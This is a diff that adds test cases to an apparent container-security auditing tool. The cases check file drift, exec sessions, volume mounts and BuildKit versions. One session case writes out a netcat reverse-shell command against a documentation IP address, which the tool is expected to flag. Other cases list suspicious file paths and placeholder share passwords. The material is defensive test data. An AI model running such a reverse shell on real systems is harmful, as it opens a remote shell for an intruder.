@@ -95,8 +95,31 @@ DRIFT = [
     drift(PASS, wrote("/var/lib/app/x.db"), wrote("/var/log/x.log"), wrote("/run/x.pid"), note="data"),
     drift(PASS, wrote("/usr/lib/python3/site.pyc"), note="byte code"),
     drift(PASS, wrote("/usr/bin/x", kind="deleted", file="", size=0), note="deleted"),
-    drift(PASS, wrote("/run/x.sh", 0o755, 5), note="volatile"),
-    drift(MANUAL, wrote("/etc/nginx/conf.d/default.conf", kind="modified"), note="configuration", severity=MEDIUM),
+    *(
+        drift(FAIL, wrote(path, 0o755, 5), note=f"a program called {path}", severity=HIGH)
+        for path in (
+            "/run/x",
+            "/run/x.sh",
+            "/var/log/miner",
+            "/tmp/evil.log",
+            "/tmp/kit.sock",
+            "/tmp/photo.jpg",
+            "/usr/local/bin/x.lock",
+            "/usr/bin/x.json",
+            "/srv/x.pid",
+            "/app/run.sh",
+            "/app/logo.png.elf",
+        )
+    ),
+    drift(FAIL, wrote("/usr/local/bin/x.lock", 0o600, 5), note="in bin, whatever it is called", severity=HIGH),
+    drift(FAIL, wrote("/app/uploads/photo.jpg", 0o4755), note="set-id, whatever it is called", severity=HIGH),
+    drift(MANUAL, wrote("/app/uploads/photo.jpg", 0o777), note="data that can be executed", severity=LOW),
+    drift(MANUAL, wrote("/app/A.PDF", 0o755), wrote("/etc/x.conf"), note="data and configuration", severity=LOW),
+    drift(PASS, wrote("/app/uploads/photo.jpg", 0o666), wrote("/run/x.sh", 0o644, 5), note="without an x bit"),
+    drift(PASS, wrote("/run/x", 0o755, size=0), note="empty"),
+    drift(MANUAL, wrote("/etc/nginx/conf.d/default.conf", kind="modified"), note="configuration", severity=LOW),
+    drift(PASS, wrote("/etc/.pwd.lock", 0o600, 5), note="a lock in /etc"),
+    drift(UNKNOWN, Change("/tmp/evil.log", "added"), note="called a log, mode not told"),
     drift(UNKNOWN, wrote("/var/lib/x"), note="more than is kept", changes_complete=False),
     drift(FAIL, wrote("/tmp/x", 0o755), note="found among many", changes_complete=False),
     drift(UNKNOWN, *told_by_engine("docker-api/changes-dropped.json"), note="modes not told"),
@@ -150,7 +173,9 @@ def inside(
     return Case("RUN-049", of, expected, severity, (ENGINE, activity(of, sessions=found)), note=note)
 
 
-_probed = changed(_plain, healthcheck=Healthcheck(("CMD-SHELL", "curl -f http://localhost/")))
+_PROBE, _PIPEFAIL = "curl -f http://localhost/", ("/bin/bash", "-o", "pipefail", "-c")
+_probed = changed(_plain, healthcheck=Healthcheck(("CMD-SHELL", _PROBE)))
+_probed_by_bash = changed(docker("plain", Config__Shell=[*_PIPEFAIL]), healthcheck=_probed.healthcheck)
 _probed_directly = changed(_plain, healthcheck=Healthcheck(("CMD", "/probe", "-q")))
 
 SESSIONS = [
@@ -161,8 +186,23 @@ SESSIONS = [
     inside(MANUAL, session(user=""), note="the container's own user", of=_named),
     inside(MANUAL, session(user="0"), note="root in a container of root"),
     inside(PASS, note="nobody"),
-    inside(PASS, session(command=("/bin/sh", "-c", "curl -f http://localhost/")), note="probe", of=_probed),
-    inside(PASS, session(command=("/probe", "-q")), note="probe without a shell", of=_probed_directly),
+    inside(PASS, session(command=("/bin/sh", "-c", _PROBE), user=""), note="probe", of=_probed),
+    inside(PASS, session(command=("sh", "-c", _PROBE), user=""), note="probe of podman", of=_probed),
+    inside(PASS, session(command=(*_PIPEFAIL, _PROBE), user=""), note="probe by the image's shell", of=_probed_by_bash),
+    inside(MANUAL, session(command=(*_PIPEFAIL, _PROBE), user=""), note="a shell that is not its own", of=_probed),
+    inside(MANUAL, session(command=("sh", "-c", "nc -e sh 192.0.2.1 1", _PROBE), user=""), note="$0", of=_probed),
+    inside(MANUAL, session(command=("nc", "-c", _PROBE), user=""), note="no shell", of=_probed),
+    inside(MANUAL, session(command=(_PROBE,), user=""), note="the words alone", of=_probed),
+    inside(MANUAL, session(command=("sh", "-c", _PROBE), user="", terminal=True), note="a person's", of=_probed),
+    inside(MANUAL, session(command=("sh", "-c", _PROBE), user="65534"), note="another's probe", of=_probed),
+    inside(
+        FAIL,
+        session(command=("sh", "-c", _PROBE), user="", privileged=True),
+        note="privileged",
+        of=_probed,
+        severity=HIGH,
+    ),
+    inside(PASS, session(command=("/probe", "-q"), user=""), note="probe without a shell", of=_probed_directly),
     inside(MANUAL, session(command=("/probe",)), note="not quite the probe", of=_probed_directly),
     Case("RUN-049", _exited, NA, note="stopped"),
     Case("RUN-049", _plain, UNKNOWN, note="nobody has looked"),
@@ -193,9 +233,28 @@ VOLUMES = [
     bound(FAIL, "the engine's own directory", CRITICAL, type="none", o="bind", device="/srv/lab/dk/data/volumes"),
     bound(FAIL, "password of a share", HIGH, type="cifs", o="username=u,password=hunter2,vers=3.0", device="//h/s"),
     bound(MANUAL, "another directory", None, type="none", o="bind", device="/data/app"),
+    bound(FAIL, "a relative path, below the engine's /", CRITICAL, type="none", o="bind", device="etc"),
+    bound(FAIL, "a disk of the host", CRITICAL, type="ext4", device="/dev/sda1"),
+    bound(FAIL, "a disk by another spelling", CRITICAL, type="xfs", o="noatime", device="//dev/../dev/mapper/root"),
+    bound(FAIL, "a disk, read-only", HIGH, type="ext4", o="noatime,ro", device="/dev/sda1"),
+    bound(FAIL, "a disk, the last word counts", CRITICAL, type="ext4", o="ro,rw", device="/dev/sda1"),
+    bound(FAIL, "a disk of a foreign type", CRITICAL, type="ntfs3", device="/dev/sdb"),
+    bound(FAIL, "overlay of /etc", HIGH, type="overlay", device="x", o="lowerdir=/etc,upperdir=/data/u,workdir=/w"),
+    bound(FAIL, "overlay of many", HIGH, type="overlay", device="x", o="lowerdir=/data/a:/root,upperdir=/data/u"),
+    bound(FAIL, "overlay written to", CRITICAL, type="overlay", device="x", o="lowerdir=/a,upperdir=/etc,workdir=/w"),
+    bound(MANUAL, "overlay of other paths", None, type="overlay", device="x", o="lowerdir=/data/a,upperdir=/data/b"),
+    bound(FAIL, "the kernel's settings", CRITICAL, type="sysfs", device="sysfs"),
+    bound(FAIL, "every device", HIGH, type="devtmpfs", device="x"),
+    bound(MANUAL, "another type", None, type="9p", o="trans=virtio", device="data"),
+    bound(FAIL, "secret of a share", HIGH, type="ceph", o="name=u,secret=AQDkkVliNhcwJBAAtz==", device="x:/"),
     bound(MANUAL, "old NFS", None, type="nfs", o="addr=10.0.0.1,nfsvers=3,rw", device=":/x"),
+    bound(MANUAL, "old NFS by a flag", None, type="nfs", o="addr=10.0.0.1,v3", device=":/x"),
+    bound(MANUAL, "NFS, the kernel's choice", None, type="nfs", o="addr=10.0.0.1,rw", device=":/x"),
     bound(PASS, "NFS 4", None, type="nfs", o="addr=10.0.0.1,vers=4.2,rw", device=":/x"),
-    bound(PASS, "share with a file of credentials", None, type="cifs", o="credentials=/etc/x", device="//h/s"),
+    bound(PASS, "NFS 4 by its type", None, type="nfs4", o="addr=10.0.0.1", device=":/x"),
+    Case("RUN-052", volume(type="nfs", o="addr=10.0.0.1", device=":/x"), PASS, None, (podman_of(),), note="mount.nfs"),
+    bound(PASS, "share without a password", None, type="cifs", o="sec=krb5", device="//h/s"),
+    bound(PASS, "a quota alone", size="10G"),
     bound(PASS, "tmpfs", None, type="tmpfs", o="size=100m,uid=1000", device="tmpfs"),
     bound(PASS, "plain"),
     Case("RUN-052", changed(volume(), driver="rexray"), NA, note="another driver"),
@@ -237,6 +296,7 @@ def builder(image: str, **changes: Any) -> Container:
 
 
 _old, _new = builder("moby/buildkit:v0.12.4"), builder("docker.io/moby/buildkit:v0.29.0-rootless")
+_moving = changed(builder("moby/buildkit:buildx-stable-1"), key=ResourceKey(Kind.CONTAINER, SOURCE, "m"), name="m")
 BUILDKIT = [
     Case("RUN-066", built("24.0.9"), FAIL, CRITICAL, (), note="24.0.9 did not take it in"),
     Case("RUN-066", built("25.0.2"), MANUAL, MEDIUM, (), note="fixed of 2024, not of 2026"),
@@ -249,6 +309,21 @@ BUILDKIT = [
     Case("RUN-066", podman_of(), FAIL, CRITICAL, (_old,), note="builder in podman"),
     Case("RUN-066", podman_of(), PASS, None, (_new,), note="new builder in podman"),
     Case("RUN-066", podman_of(), NA, None, (), note="podman alone"),
+    *(
+        Case("RUN-066", of, UNKNOWN, None, (builder(image),), note=f"{of.peek('flavour')}, {image}")
+        for of in (built("29.3.1"), podman_of())
+        for image in (
+            "moby/buildkit:buildx-stable-1",
+            "moby/buildkit",
+            "docker.io/moby/buildkit:latest",
+            "reg.example:5000/moby/buildkit:rootless",
+            "moby/buildkit@sha256:" + "a" * 64,
+        )
+    ),
+    Case("RUN-066", built("29.3.1"), FAIL, CRITICAL, (_old, _moving), note="an old one, and one that is not told"),
+    Case("RUN-066", built("24.0.9"), FAIL, CRITICAL, (_moving,), note="the engine, and a builder that is not told"),
+    Case("RUN-066", built("25.0.2"), MANUAL, MEDIUM, (_moving,), note="the engine's to look at first"),
+    Case("RUN-066", built("29.3.1"), PASS, None, (builder("moby/buildkit-fork:1"),), note="another program"),
     Case("RUN-066", built("dev"), UNKNOWN, None, (), note="no version"),
     Case("RUN-066", podman_of(), MANUAL, None, (_new,), now=NOW + 400 * 86400, note="old table"),
 ]
